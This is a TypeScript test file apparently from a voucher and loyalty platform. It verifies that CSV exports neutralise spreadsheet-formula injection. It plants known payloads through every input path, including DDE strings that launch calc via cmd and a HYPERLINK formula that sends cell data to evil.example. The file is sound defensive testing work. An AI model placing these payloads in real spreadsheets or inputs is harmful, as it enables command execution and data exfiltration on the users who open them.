import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { Api, HttpClient } from '../../scripts/lib/http-client.ts';
import { str } from '../../scripts/lib/json.ts';
import { clientHeaders, serverHeaders } from '../../scripts/lib/keys.ts';
import { ServerProcess } from '../../scripts/lib/server-process.ts';
import type { ThrowawayDatabase } from '../../scripts/lib/throwaway-database.ts';
import { until } from '../../scripts/lib/until.ts';
import { EXPORT_OBJECTS, EXPORTED_OBJECTS, type ExportedObject } from '../../src/domain/exports/objects.ts';
import { createProject, unique } from './helpers/api-builders.ts';
import { Random, suiteSeed } from './helpers/random.ts';
import { createRunDatabase, reliabilityDialect } from './helpers/run-database.ts';
import { testTimeout } from './helpers/scale.ts';

// CSV injection (README "Compatibility notes", Exports): no cell of any export may begin as a spreadsheet
// formula. One project is filled through every door text comes in by (the server API, the client-side
// API a shop's page calls, CSV imports, bulk metadata updates) with formula text, drawn from known
// injection payloads, in every member that reaches an export column. The worker inside a real
// `punchcard start` then exports every object with every column it offers, and the files are read with
// csv-parse: a cell may begin with =, +, -, @, a tab or a carriage return only when it is a number the
// program wrote (a removal of points), and every column that shows user text must show a planted value
// behind the single quote that neutralises it. Every column the exports offer is classified below as
// user text or the program's own values, so a column added tomorrow fails here until it is classified.

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

const seed = suiteSeed();
const FORMULA_START = /^[=+\-@\t\r]/;

/** Free text: payloads known to run in spreadsheets, each starting differently. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A2,"Click me")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
/** Values held to a narrower alphabet (codes, source ids, phone numbers): a formula character in front. */
const TOKEN_STARTS = ['=', '+', '-', '@'];
/** The same for e-mail addresses, whose local part cannot begin with @. */
const EMAIL_STARTS = ['=', '+', '-'];

/** Columns that show text a user wrote; every other column the object offers holds the program's own values. */
const USER_TEXT: Record<ExportedObject, readonly string[]> = {
  voucher: ['code', 'formula', 'campaign', 'category', 'additional_info', 'customer_source_id', 'discount_unit_type'],
  redemption: ['voucher_code', 'campaign', 'customer_source_id', 'customer_name', 'tracking_id'],
  customer: ['name', 'description', 'email', 'source_id', 'address_city', 'address_state', 'address_line_1', 'address_line_2', 'address_country', 'address_postal_code', 'phone'],
  publication: ['code', 'voucher_code', 'customer_source_id', 'channel', 'campaign'],
  order: ['source_id'],
  points_expiration: [],
  voucher_transactions: ['source_id', 'reason'],
};
const PROGRAM_VALUES: Record<ExportedObject, readonly string[]> = {
  voucher: [
    'voucher_type',
    'value',
    'discount_type',
    'start_date',
    'expiration_date',
    'gift_balance',
    'loyalty_balance',
    'redemption_quantity',
    'redemption_count',
    'active',
    'qr_code',
    'bar_code',
    'metadata',
    'id',
    'is_referral_code',
    'created_at',
    'updated_at',
    'validity_timeframe_interval',
    'validity_timeframe_duration',
    'validity_day_of_week',
    'discount_amount_limit',
    'campaign_id',
    'customer_id',
    'discount_effect',
    'discount_unit_effect',
    'validation_rules_id',
  ],
  redemption: ['id', 'object', 'date', 'promotion_tier_id', 'customer_id', 'order_id', 'order_amount', 'gift_amount', 'loyalty_points', 'result', 'failure_code', 'failure_message', 'metadata'],
  customer: [
    'id',
    'created_at',
    'redemptions_total_redeemed',
    'redemptions_total_failed',
    'redemptions_total_succeeded',
    'redemptions_total_rolled_back',
    'redemptions_total_rollback_failed',
    'redemptions_total_rollback_succeeded',
    'orders_total_amount',
    'orders_total_count',
    'orders_average_amount',
    'orders_last_order_amount',
    'orders_last_order_date',
    'loyalty_points',
    'loyalty_referred_customers',
    'updated_at',
    'birthday',
    'birthdate',
    'metadata',
  ],
  publication: ['customer_id', 'date', 'is_winner', 'metadata'],
  order: ['id', 'created_at', 'updated_at', 'status', 'amount', 'discount_amount', 'items_discount_amount', 'total_discount_amount', 'total_amount', 'customer_id', 'referrer_id', 'metadata'],
  points_expiration: ['id', 'campaign_id', 'voucher_id', 'points', 'status', 'expires_at'],
  voucher_transactions: ['id', 'campaign_id', 'voucher_id', 'type', 'source', 'balance', 'amount', 'related_transaction_id', 'created_at', 'details'],
};
/** Program values that may be negative numbers (a points removal, a refund): written as numbers. */
const SIGNED_NUMBERS = new Set(['amount', 'balance', 'points', 'loyalty_points', 'gift_amount', 'order_amount', 'value', 'gift_balance', 'loyalty_balance']);
/** The metadata members planted on every object that has metadata (user text, as `metadata.<key>` columns). */
const METADATA_KEYS = ['note', 'label'];

describe(`exports on ${reliabilityDialect()} never begin a cell with a formula (seed ${seed})`, { timeout: testTimeout() }, () => {
  const rnd = new Random(seed);
  let database: ThrowawayDatabase;
  let server: ServerProcess;
  let http: HttpClient;
  let api: Api;
  let client: Api;

  const payload = () => rnd.pick(PAYLOADS);
  /** A payload for a name the project keeps unique (categories, campaigns): the formula first, then a tail of its own. */
  const uniquePayload = (label: string) => `${payload()} ${unique(label)}`;
  const token = (label: string) => `${rnd.pick(TOKEN_STARTS)}${unique(label)}`;
  const email = (label: string) => `${rnd.pick(EMAIL_STARTS)}${unique(label)}@example.com`;
  const metadata = () => Object.fromEntries(METADATA_KEYS.map((key) => [key, payload()]));

  before(async () => {
    database = await createRunDatabase('formulas');
    server = await ServerProcess.start({ databaseUrl: database.url });
    http = new HttpClient(server.url);
    // A project of its own, with the client-side actions a shop's page uses turned on.
    const project = await createProject(http);
    api = new Api(http, serverHeaders(project.server));
    client = new Api(http, clientHeaders(project.client));
    await plant();
  });

  after(async () => {
    http?.close();
    await server?.stop();
    await database?.drop();
  });

  async function finishedAction(id: string): Promise<Json> {
    return until(`async action ${id}`, 120_000, async () => {
      const action: Json = await api.ok('GET', `/v1/async-actions/${id}`);
      assert.notEqual(action.status, 'FAILED', JSON.stringify(action));
      return action.status === 'DONE' ? action : null;
    });
  }

  async function importCsv(path: string, header: string[], rows: string[][]): Promise<void> {
    const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
    const text = [header, ...rows].map((row) => row.map(quote).join(',')).join('\r\n');
    const form = new FormData();
    form.append('file', new Blob([text], { type: 'text/csv' }), 'import.csv');
    const res = await fetch(`${server.url}${path}`, { method: 'POST', headers: api.headers, body: form });
    const body = (await res.json()) as Json;
    assert.ok(res.status === 200 || res.status === 202, JSON.stringify(body));
    const done = await finishedAction(body.async_action_id);
    assert.deepEqual(done.result.failed, [], `${path}: every row is imported`);
  }

  /** Every door text comes in by, formula text in every member that reaches an export column. */
  async function plant(): Promise<void> {
    const address = () => ({ line_1: payload(), line_2: payload(), city: payload(), state: payload(), country: payload(), postal_code: token('pc') });
    const customer: Json = await api.ok('POST', '/v1/customers', {
      source_id: token('cust'),
      name: payload(),
      email: email('cust'),
      phone: token('48600'),
      description: payload(),
      address: address(),
      metadata: metadata(),
    });
    // A shop visitor's page, with the client-side keys.
    const visitor: Json = await client.ok('POST', '/client/v1/customers', { source_id: token('visitor'), name: payload(), email: email('visitor'), description: payload(), address: address() });
    await importCsv(
      '/v1/customers/importCSV',
      ['Source_id', 'Name', 'Email', 'Phone', 'Description', 'Address_line_1', 'Address_line_2', 'Address_City', 'Address_State', 'Address_Country', 'Address_Postal_Code', ...METADATA_KEYS],
      [[token('imported'), payload(), email('imported'), token('48601'), payload(), payload(), payload(), payload(), payload(), payload(), token('pc'), ...METADATA_KEYS.map(() => payload())]],
    );
    await finishedAction(str(await api.ok('POST', '/v1/customers/metadata/async', { source_ids: [visitor.source_id], metadata: metadata() }), 'async_action_id'));

    const category = uniquePayload('category');
    await api.ok('POST', '/v1/categories', { name: category, hierarchy: 1 });
    const campaign: Json = await api.ok('POST', '/v1/campaigns', {
      name: uniquePayload('campaign'),
      campaign_type: 'DISCOUNT_COUPONS',
      vouchers_count: 0,
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
    });
    const code = token('CODE');
    await api.ok('POST', `/v1/campaigns/${campaign.id}/vouchers/${encodeURIComponent(code)}`, { category, additional_info: payload(), metadata: metadata() });
    await api.ok('POST', `/v1/vouchers/${encodeURIComponent(token('PUB'))}`, { campaign_id: campaign.id, category, metadata: metadata() });
    // A discount formula may begin with a sign; a unit discount's unit type is free text.
    await api.ok('POST', `/v1/vouchers/${encodeURIComponent(token('FORMULA'))}`, {
      type: 'DISCOUNT_VOUCHER',
      discount: { type: 'AMOUNT', amount_off: 100, amount_off_formula: `${rnd.pick(['+', '-'])}ORDER_AMOUNT / 10` },
      additional_info: payload(),
      metadata: metadata(),
    });
    await api.ok('POST', `/v1/vouchers/${encodeURIComponent(token('UNIT'))}`, { type: 'DISCOUNT_VOUCHER', discount: { type: 'UNIT', unit_off: 1, unit_type: token('unit') } });
    await importCsv('/v1/vouchers/importCSV', ['Code', 'Voucher Type', 'Value', 'Discount Type', 'Category', 'Additional Info', ...METADATA_KEYS], [
      [token('IMPORTED'), 'DISCOUNT_VOUCHER', '300', 'AMOUNT', category, payload(), ...METADATA_KEYS.map(() => payload())],
    ]);

    await api.ok('POST', '/v1/publications', { campaign: { name: campaign.name }, customer: { id: customer.id }, channel: payload(), metadata: metadata() });
    await api.ok('POST', '/v1/orders', { source_id: token('order'), amount: 3000, status: 'PAID', customer: { id: customer.id }, metadata: metadata() });
    await api.ok('POST', '/v1/redemptions', {
      redeemables: [{ object: 'voucher', id: code }],
      customer: { id: customer.id },
      tracking_id: token('track'),
      order: { source_id: token('order'), amount: 2000, metadata: metadata() },
      metadata: metadata(),
    });
    // A failed redemption keeps the customer's name and the code it was asked for.
    const failed = await api.call('POST', '/v1/redemptions', { redeemables: [{ object: 'voucher', id: token('MISSING') }], customer: { source_id: token('stranger'), name: payload() } });
    assert.ok(failed.status === 400 || failed.status === 404, failed.text);

    const gift: Json = await api.ok('POST', `/v1/vouchers/${encodeURIComponent(token('GIFT'))}`, { type: 'GIFT_VOUCHER', gift: { amount: 1000 }, metadata: metadata() });
    await api.ok('POST', `/v1/vouchers/${encodeURIComponent(gift.code)}/balance`, { amount: 250, source_id: token('topup'), reason: payload() });
    const program: Json = await api.ok('POST', '/v1/loyalties', { name: uniquePayload('program'), voucher: { type: 'LOYALTY_CARD', loyalty_card: { points: 0 } } });
    const card: Json = await api.ok('POST', `/v1/loyalties/${program.id}/members`, { customer: { id: visitor.id }, metadata: metadata() });
    await api.ok('POST', `/v1/loyalties/members/${card.code}/balance`, { points: 10, source_id: token('bonus'), reason: payload() });
    await api.ok('POST', `/v1/loyalties/members/${card.code}/balance`, { points: -5, source_id: token('removal'), reason: payload() });
  }

  /** Every column the object offers (and the planted metadata members), exported by the worker, read with csv-parse. */
  async function exportAll(object: ExportedObject): Promise<{ header: string[]; rows: string[][] }> {
    const spec = EXPORT_OBJECTS[object];
    const fields = spec.allowedFields.includes('metadata') ? [...spec.allowedFields, ...METADATA_KEYS.map((key) => `metadata.${key}`)] : [...spec.allowedFields];
    const created = await api.ok('POST', '/v1/exports', { exported_object: object, parameters: { fields } });
    const done = await until(`the ${object} export`, 120_000, async () => {
      const row: Json = await api.ok('GET', `/v1/exports/${str(created, 'id')}`);
      assert.notEqual(row.status, 'ERROR', JSON.stringify(row));
      return row.status === 'DONE' ? row : null;
    });
    const file = await fetch(str(done, 'result', 'url'));
    assert.equal(file.status, 200);
    const [header = [], ...rows] = parse(await file.text()) as string[][];
    assert.deepEqual(header, fields);
    return { header, rows };
  }

  test('every column of every export is classified as user text or the program’s own values', () => {
    for (const object of EXPORTED_OBJECTS) {
      const classified = [...USER_TEXT[object], ...PROGRAM_VALUES[object]].sort();
      assert.deepEqual(classified, [...EXPORT_OBJECTS[object].allowedFields].sort(), `${object}: classify each column in tests/reliability/export-formulas.test.ts`);
    }
  });

  test('formula text planted through every door is exported behind a quote; no cell begins as a formula', async () => {
    const problems: string[] = [];
    for (const object of EXPORTED_OBJECTS) {
      const { header, rows } = await exportAll(object);
      assert.ok(rows.length > 0, `the ${object} export has rows`);
      for (const [i, column] of header.entries()) {
        const cells = rows.map((row) => row[i] ?? '');
        for (const cell of cells) {
          if (FORMULA_START.test(cell) && !(SIGNED_NUMBERS.has(column) && /^-\d+(\.\d+)?$/.test(cell))) {
            problems.push(`${object} ${column}: ${JSON.stringify(cell)} begins as a formula`);
          }
        }
        // Each user-text column shows at least one planted value, neutralised.
        const userText = USER_TEXT[object].includes(column) || column.startsWith('metadata.');
        if (userText && !cells.some((cell) => /^'[=+\-@\t\r]/.test(cell))) problems.push(`${object} ${column}: no planted value reached the column (${JSON.stringify(cells)})`);
      }
    }
    assert.deepEqual(problems, []);
  });

  test('numbers the program wrote stay numbers: a removal of 5 points is -5', async () => {
    const { header, rows } = await exportAll('voucher_transactions');
    const amounts = rows.map((row) => row[header.indexOf('amount')]);
    assert.ok(amounts.includes('-5'), JSON.stringify(amounts));
  });
});
